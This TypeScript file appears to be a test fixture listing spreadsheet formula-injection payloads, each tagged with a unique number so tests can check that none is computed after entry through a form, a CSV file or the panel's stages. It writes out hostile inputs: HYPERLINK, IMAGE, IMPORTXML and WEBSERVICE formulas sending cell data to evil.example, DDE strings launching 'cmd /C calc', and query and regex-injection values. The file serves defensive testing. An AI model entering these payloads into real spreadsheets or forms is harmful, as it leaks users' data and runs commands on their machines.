import type {Attack} from '../attack';

/** A text that is a formula to whoever takes it for one. */
export interface FormulaAttack extends Attack {
  readonly text: string;
  /** What some cell would show, had the text been taken for a formula. */
  readonly effects: readonly (string | number)[];
}

/** Each attack has a number of its own, which tells its effects from those of all others. */
const FIRST = 7_000_001;

const texts: readonly (readonly [name: string, text: (mark: number) => string])[] = [
  ['=', mark => `=2*${mark}`],
  ['= after a space', mark => ` =2*${mark}`],
  ['= after a tab', mark => `\t=2*${mark}`],
  ['= after a line end', mark => `\n=2*${mark}`],
  ['= after a carriage return', mark => `\r=2*${mark}`],
  ['= after a no-break space', mark => `\u00a0=2*${mark}`],
  ['= after a zero-width space', mark => `\u200b=2*${mark}`],
  ['= after a byte order mark', mark => `\ufeff=2*${mark}`],
  ['= after an apostrophe', mark => `'=2*${mark}`],
  ['= after two apostrophes', mark => `''=2*${mark}`],
  ['= after a quote', mark => `"=2*${mark}"`],
  ['a full-width =', mark => `＝2*${mark}`],
  ['==', mark => `==2*${mark}`],
  ['+', mark => `+2*${mark}`],
  ['-', mark => `-2*-${mark}`],
  ['@', mark => `@SUM(${mark},${mark})`],
  ['+ before =', mark => `+=2*${mark}`],
  ['=-', mark => `=-2*-${mark}`],
  ['a formula in braces', mark => `={2*${mark}}`],
  ['a formula in semicolons', mark => `=SUM(${mark};${mark})`],
  ['an array formula', mark => `=ARRAYFORMULA(2*${mark})`],
  ['HYPERLINK', mark => `=HYPERLINK("https://evil.example/?x="&A1;"got"&${mark})`],
  ['HYPERLINK with commas', mark => `=HYPERLINK("https://evil.example", "got"&${mark})`],
  ['IMAGE', mark => `=IMAGE("https://evil.example/"&A2&${mark})`],
  ['IMPORTXML', mark => `=IMPORTXML(CONCAT("https://evil.example/${mark}?", A2), "//a")`],
  ['IMPORTDATA', mark => `=IMPORTDATA("https://evil.example/${mark}")`],
  ['IMPORTRANGE', mark => `=IMPORTRANGE("${mark}", "Sheet1!A1")`],
  ['WEBSERVICE', mark => `=WEBSERVICE("https://evil.example/${mark}")`],
  ['DDE', mark => `=cmd|' /C calc ${mark}'!A0`],
  ['DDE without =', mark => `+cmd|' /C calc ${mark}'!A0`],
  ['DDE behind @', mark => `@SUM(1+${mark})*cmd|' /C calc'!A0`],
  ['a reference to another file', mark => `='https://evil.example/[${mark}.xlsx]S'!A1`],
  ['the end of a string and a formula', mark => `"&2*${mark}&"`],
  ['the end of a string and of a call', mark => `");2*${mark};("`],
  ['a criterion that all meet', mark => `<>${mark}`],
  ['a criterion of more', mark => `>=${mark}`],
  ['a criterion of equality', mark => `=${mark}*`],
  ['wildcards', mark => `*${mark}?~*`],
  ['a regular expression', mark => `(${mark}|.*)+$`],
  ['QUERY', mark => `' or ${mark}=${mark} or '`],
  ['a formula in capitals of another script', mark => `=ＳＵＭ(${mark},${mark})`],
  ['a number format', mark => `[=1]"got"${mark};@`],
  ['a formula over lines', mark => `=2\n*${mark}`],
  ['LAMBDA', mark => `=LAMBDA(x, 2*x)(${mark})`],
];

/** By which the texts come in: each is tried by each. */
export const WAYS = ['the panel’s form', 'a CSV file', 'the stages of the panel'] as const;
export type Way = (typeof WAYS)[number];

/** The attacks that come in by one way. */
export function formulaAttacks(way: Way): FormulaAttack[] {
  return texts.map(([name, text], index) => {
    const mark = FIRST + 2 * (index + texts.length * WAYS.indexOf(way));
    return {
      name: `${name} in ${way}`,
      mustNot: 'be computed, in any sheet or in a saved workbook',
      text: text(mark),
      effects: [2 * mark, `got${mark}`],
    };
  });
}

export const FORMULA_ATTACKS: readonly FormulaAttack[] = WAYS.flatMap(formulaAttacks);
